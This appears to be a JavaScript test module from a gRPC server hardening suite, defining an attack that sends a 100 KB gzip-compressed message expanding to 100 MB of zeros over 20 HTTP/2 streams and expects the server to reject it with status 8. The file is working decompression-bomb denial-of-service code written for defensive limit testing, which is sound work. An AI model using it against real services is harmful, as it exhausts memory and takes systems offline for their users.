// A gRPC message of 100 KB that is 100 MB of zeros when it is uncompressed.

import { gzipSync } from "node:zlib";

import { Flag, Type, toFrame, toStreamId } from "../wire/frames.mjs";
import { PUBLISH, toEnvelope } from "../wire/grpc.mjs";
import { toGrpcRequest } from "../wire/hpack.mjs";

const streams = 20;
const headers = toGrpcRequest(PUBLISH, [["grpc-encoding", "gzip"]]);
const body = toEnvelope(gzipSync(Buffer.alloc(100_000_000)), { compressed: true });

/** @param {number} streamId */
function toRest(streamId) {
  const frames = [];
  for (let at = 16_000; at < body.length; at += 16_000)
    frames.push(toFrame(Type.DATA, 0, streamId, body.subarray(at, at + 16_000)));
  return [...frames, toFrame(Type.DATA, Flag.END_STREAM, streamId)];
}

/** @type {import("../target.mjs").Attack} */
export const attack = {
  reference: "CWE-409",
  does: "sends gzip that grows a thousandfold",
  limit: "messageBytesMax",
  meets: "grpc-status 8",
  counter: "",
  memoryMb: 160,
  async run(target) {
    const peer = await target.connectHttp2();
    for (let n = 0; n < streams; n++) {
      await peer.send(
        toFrame(Type.HEADERS, Flag.END_HEADERS, toStreamId(n), headers),
        toFrame(Type.DATA, 0, toStreamId(n), body.subarray(0, 16_000)),
        ...toRest(toStreamId(n)),
      );
    }
    return Promise.all(
      Array.from({ length: streams }, (_, n) => target.patiently(peer.endOf(toStreamId(n)))),
    );
  },
};
